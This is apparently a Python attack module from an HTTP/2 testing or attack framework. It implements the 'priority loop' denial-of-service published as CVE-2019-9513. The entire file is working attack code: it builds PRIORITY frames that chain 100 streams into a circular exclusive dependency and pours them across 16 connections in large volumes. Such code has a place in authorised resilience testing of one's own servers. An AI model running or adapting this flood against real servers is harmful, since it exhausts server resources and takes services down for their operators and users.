"""PRIORITY, which reorders the streams of a connection again and again ("resource loop")."""

from lib.attack import HTTP2, Attack, Case
from lib.frames import PRIORITY, frame

CONNECTIONS = 16
STREAMS = 100


def flood(attacker):
    """Each stream depends on the next one alone, in a circle that moves."""
    streams = [2 * number + 1 for number in range(STREAMS)]
    piece = b"".join(
        frame(PRIORITY, 0, stream, (on | 1 << 31).to_bytes(4, "big") + b"\xff")
        for stream, on in zip(streams, streams[1:] + streams[:1]))
    attacker.pour(CONNECTIONS, lambda at: attacker.http2(at=at), piece, STREAMS)


ATTACK = Attack(
    title="priority loop",
    published="CVE-2019-9513",
    cases=(Case("a circle of streams", HTTP2, flood, {"frames": 200_000}),),
)
